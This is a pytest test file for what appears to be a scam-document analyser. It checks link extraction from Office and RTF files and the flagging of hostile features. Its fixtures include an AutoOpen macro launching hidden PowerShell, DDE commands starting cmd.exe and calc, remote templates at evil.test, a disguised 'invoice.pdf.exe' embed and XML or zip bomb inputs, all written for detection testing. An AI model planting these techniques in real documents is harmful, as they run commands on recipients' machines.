"""Office files, given by themselves or attached: their words and links have addresses, and what they do is evidence."""

from __future__ import annotations

import io
import time
import zipfile

import pytest
from benchmarks.made_documents import qr_png
from benchmarks.made_office import office_ordinary, office_scams
from benchmarks.office_writer import Relations, docx, odt, pptx, xlsx, zipped
from benchmarks.ole_writer import ole, project, word
from hypothesis import given, settings
from hypothesis import strategies as st

from malafide.assessment import Route
from malafide.benches.document import DocumentPanel
from malafide.case import Case
from malafide.errors import MalafideError
from malafide.intake import read_bytes
from malafide.intake.attachments import examine as look
from malafide.intake.documents import read_document
from malafide.intake.office_vba import macro_lines, unpacked
from malafide.knowledge.remembered import Knowledge
from malafide.panel.hearing import examine
from malafide.tools import tools

LETTER = "Minutes of the rowing club\nWe met on Tuesday and talked about the new boat house.\n"
LINKED = LETTER + "[www.bank.example](http://192.0.2.7/x)"
RTF = (
    rb"{\rtf1\ansi\ansicpg1252{\fonttbl{\f0 Arial;}}{\info{\title secret}}Caf\'e9 \u8364?5\par "
    rb'See {\field{\*\fldinst{HYPERLINK "http://192.0.2.7/x"}}{\fldrslt{www.bank.example}}} now}'
)
REACHES = 'Sub AutoOpen()\r\nCreateObject("WScript.Shell").Run "powershell -w hidden"\r\nEnd Sub\r\n'


def kinds(case: Case) -> set[str]:
    seen = examine(case, tools)
    assert not seen.failures and all(e.holds_in(case) for e in seen.evidence)
    return {e.kind for e in seen.evidence}


def attached(data: bytes, name: str) -> Case:
    return read_document(
        {"subject": "Papers", "sender": "ann@example.com", "body": "See the file, please.",
         "attachments": [{"filename": name, "content": data}]}
    )  # fmt: skip


@pytest.mark.parametrize(
    ("data", "format", "text"),
    [
        (docx(LINKED), "docx", LETTER + "www.bank.example"),
        (odt(LINKED), "odt", LETTER + "www.bank.example"),
        (xlsx("Name  Sum\n[www.bank.example](http://192.0.2.7/x)"), "xlsx", "Name  Sum\nwww.bank.example"),
        (pptx("Boat house\n[www.bank.example](http://192.0.2.7/x)"), "pptx", "Boat house\nwww.bank.example"),
        (word('Boats \x13 HYPERLINK "http://192.0.2.7/x" \x14www.bank.example\x15\nBye'), "doc",
         "Boats www.bank.example\nBye"),
        (RTF, "rtf", "Café €5\nSee www.bank.example now"),
    ],
)  # fmt: skip
def test_words_and_links_alone_and_in_a_mail(data: bytes, format: str, text: str) -> None:
    alone = read_document(data)
    assert alone.kind == "document" and alone.document and alone.document.format == format
    assert alone.part("page/1").text == text and not alone.limitations
    held = attached(data, f"papers.{format}")
    assert held.part("attachment/1").text == f"papers.{format}\n{text}"
    for case in (alone, held):
        assert case.mail is not None
        (link,) = case.mail.links
        assert (link.target, link.text, link.carrier) == ("http://192.0.2.7/x", "www.bank.example", "office")
        assert link.shown_at and case.quote(link.shown_at) == link.text
        assert {"links.ip-host", "links.shows-another"} <= kinds(case)


@pytest.mark.parametrize(
    "data",
    [
        docx(LETTER),
        xlsx(LETTER),
        pptx(LETTER),
        odt(LETTER),
        word(LETTER),
        RTF.replace(b"192.0.2.7", b"a.example"),
    ],
)
def test_ordinary_files_do_nothing_of_note(data: bytes) -> None:
    for case in (read_document(data), attached(data, "papers.bin")):
        assert not {k for k in kinds(case) if k.startswith(("office.", "attachments."))}


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (docx(LETTER, loads=[("attachedTemplate", "http://evil.test/a.dotm")]), "office.remote-template"),
        (docx(LETTER, loads=[("oleObject", "mhtml:http://evil.test/a.html!x")]), "office.remote-object"),
        (docx(LETTER, loads=[("attachedTemplate", r"\\198.51.100.4\share\a.dotm")]), "office.remote-template"),
        (docx(LETTER, codes=(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k x"',)), "office.starts-program"),
        (xlsx("a", formulas=("cmd|'/c calc'!A1",)), "office.starts-program"),
        (docx(LETTER, parts={"word/vbaProject.bin": project(REACHES)}), "office.macro-reaches-out"),
        (word(LETTER, macros=REACHES), "office.macro-reaches-out"),
        (docx("Click Enable Content to view", parts={"word/vbaProject.bin": project("Sub A()\r\nEnd Sub")}),
         "office.asks-to-enable"),
        (rb"{\rtf1{\*\template http://evil.test/t.dotm}Hello}", "office.remote-template"),
    ],
)  # fmt: skip
def test_what_it_does_when_opened(data: bytes, kind: str) -> None:
    assert kind in kinds(read_document(data))
    assert kind in kinds(attached(data, "papers.docm"))


@pytest.mark.parametrize(
    "loads",
    [
        [("attachedTemplate", "file:///C:\\Templates\\letter.dotx")],
        [("attachedTemplate", r"\\fileserver\templates\letter.dotx")],
        [("attachedTemplate", "https://firm.sharepoint.com/t/letter.dotx")],
        [("image", "https://pictures.example/logo.png")],
    ],
)
def test_what_firms_do_with_templates_and_pictures_is_no_evidence(loads: Relations) -> None:
    assert not {k for k in kinds(read_document(docx(LETTER, loads=loads))) if k.startswith("office.")}


@pytest.mark.parametrize("formula", ['A1&"|"&B1', "SUM(A1:A9)", 'IF(A1="x|y",1,2)'])
def test_ordinary_formulas(formula: str) -> None:
    case = read_document(xlsx("a", formulas=(formula,)))
    assert case.document and not case.document.acts


def test_macros_that_stay_inside_say_little() -> None:
    sums = "Sub Totals()\r\nRange(1).Value = Range(2).Value * 1.19\r\nEnd Sub\r\n"
    case = read_document(docx(LETTER, parts={"word/vbaProject.bin": project(sums)}))
    assert {k for k in kinds(case) if k.startswith("office.")} == {"office.macros"}
    assert macro_lines(project(sums)) == (["Sub Totals()"], False)


def test_packed_sources_are_unpacked() -> None:
    # The example of the specification [MS-OVBA 3.2.3]: letters, and copies of earlier ones.
    packed = bytes.fromhex("01 03 B0 02 61 45 00".replace(" ", ""))
    assert unpacked(packed, 1_000) == b"a" * 73


def test_hidden_words_of_a_document() -> None:
    runs = "<w:r><w:t>Seen</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>Unseen</w:t></w:r>"
    hidden = f'<w:document xmlns:w="w"><w:p>{runs}</w:p></w:document>'
    case = read_document(zipped({"word/document.xml": hidden}))
    assert case.part("page/1").text == "Seen" and case.part("hidden").text == "Unseen"


def test_a_code_in_a_picture_of_a_document_is_a_link() -> None:
    data = docx("Scan the code", parts={"word/media/image1.png": qr_png("http://parcel.example/pay")})
    for case in (read_document(data), attached(data, "parcel.docx")):
        assert case.mail and [(x.target, x.carrier) for x in case.mail.links] == [
            ("http://parcel.example/pay", "qr")
        ]
        assert "links.camera-code" in kinds(case)
    assert "office.only-a-code" in kinds(read_document(data))


def test_a_program_packed_into_a_document_is_a_file_of_it() -> None:
    native = b"\0" * 6 + b"invoice.pdf.exe\0C:\\x\0" + b"MZ" + b"\0" * 5_000
    data = docx(LETTER, parts={"word/embeddings/oleObject1.bin": ole({"\x01Ole10Native": native})})
    for case, number in ((read_document(data), 0), (attached(data, "a.docx"), 1)):
        assert case.mail and case.mail.attachments[number].name == "invoice.pdf.exe"
        assert "attachments.double-ending" in kinds(case)


def test_a_locked_file_is_a_limitation() -> None:
    new = ole({"EncryptedPackage": b"\0" * 5_000, "EncryptionInfo": b"\0" * 5_000})
    old = ole({"WordDocument": b"\0" * 10 + b"\0\1" + b"\0" * 5_000})
    for data in (new, old):
        case = read_document(data)
        assert case.document and case.document.encrypted and "locked with a password" in case.limitations[0]
    assert "attachments.locked" in kinds(attached(new, "a.docx"))
    assert "attachments.locked" in kinds(attached(old, "a.doc"))
    manifest = "<m><file-entry><encryption-data/></file-entry></m>"
    assert read_document(odt("x", parts={"META-INF/manifest.xml": manifest})).document.encrypted  # type: ignore[union-attr]


BOMB = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    '<w:document xmlns:w="w"><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:document>'
)


@pytest.mark.parametrize(
    "data",
    [
        zipped({"word/document.xml": b"<w>" + b" " * 150_000_000}),
        zipped({"word/document.xml": BOMB}),
        zipped({"word/document.xml": "<a>" * 100_000}),
        zipped({"word/document.xml": b"<a xmlns='w'>" + b"<p><r><t>a</t></r></p>" * 900_000}),
        zipped({f"word/{n}": "" for n in range(5_000)}),
        docx(
            LETTER, parts={f"word/media/{n}.png": b"\x89PNG\r\n\x1a\n" + bytes(3_000_000) for n in range(9)}
        ),
        b"{\\rtf1" + b"{" * 200_000,
        b"{\\rtf1 " + b"\\par a" * 900_000,
        word("a" * 4_000)[:3_000],
    ],
    ids=["zip bomb", "entities", "nesting", "elements", "entries", "pictures", "groups", "words", "cut off"],
)
def test_a_file_out_of_hand_ends_within_limits(data: bytes) -> None:
    started = time.process_time()
    try:
        case = read_document(data)
        assert sum(len(part.text) for part in case.parts) < 1_000_000
        assert kinds(case) is not None
    except MalafideError:
        pass
    assert time.process_time() - started < 8


WHOLE = (docx(LINKED), xlsx(LINKED), odt(LINKED), word(LINKED, macros=REACHES), RTF)


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(WHOLE), st.integers(0, 30_000), st.binary(min_size=1, max_size=12))
def test_damage_anywhere_gives_a_case_or_a_refusal(whole: bytes, at: int, damage: bytes) -> None:
    data = bytearray(whole)
    at %= len(data)
    data[at : at + len(damage)] = damage
    try:
        case = read_document(bytes(data))
    except MalafideError:
        return
    assert all(e.holds_in(case) for e in examine(case, tools).evidence)
    mail = b"From: a@example.com\nTo: b@example.com\nContent-Type: application/x-a; name=a.doc\n\n" + bytes(
        data
    )
    assert read_bytes(mail).mail is not None


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=300))
def test_any_field_and_any_words(text: str) -> None:
    clean = "".join(
        c for c in text if c >= " " and not 0xD800 <= ord(c) <= 0xDFFF and c not in "\ufffe\uffff"
    )
    case = read_document(docx(clean, codes=(clean,)))
    assert all(e.holds_in(case) for e in examine(case, tools).evidence)


def test_many_documents_are_not_all_opened() -> None:
    case = read_document(
        {
            "body": "See",
            "attachments": [{"filename": f"{n}.docx", "content": docx(LETTER)} for n in range(12)],
        }
    )
    assert case.mail and sum(a.document is not None for a in case.mail.attachments) == 8
    assert "Only the first 8 attached documents were opened." in case.limitations


def test_types_by_content() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("notes.txt", "x")
    for data, kind in (
        (docx("a"), "docx"), (xlsx("a"), "xlsx"), (pptx("a"), "pptx"), (odt("a"), "odt"), (word("a"), "doc"),
        (ole({"Workbook": b"\0" * 4_100}), "xls"), (RTF, "rtf"), (out.getvalue(), "zip"),
    ):  # fmt: skip
        assert look(data).real_type == kind


@pytest.mark.parametrize("route", ["deep_analysis", "full_analysis"])
def test_no_scam_is_called_safe_and_no_ordinary_file_a_scam(route: Route) -> None:
    panel = DocumentPanel(knowledge=Knowledge())
    answers = {name: panel.assess(read_document(data), route=route).answer for name, data in office_scams()}
    assert not [name for name, answer in answers.items() if answer == "not_scam"]
    answers = {
        name: panel.assess(read_document(data), route=route).answer for name, data in office_ordinary()
    }
    assert not [name for name, answer in answers.items() if answer == "scam"]
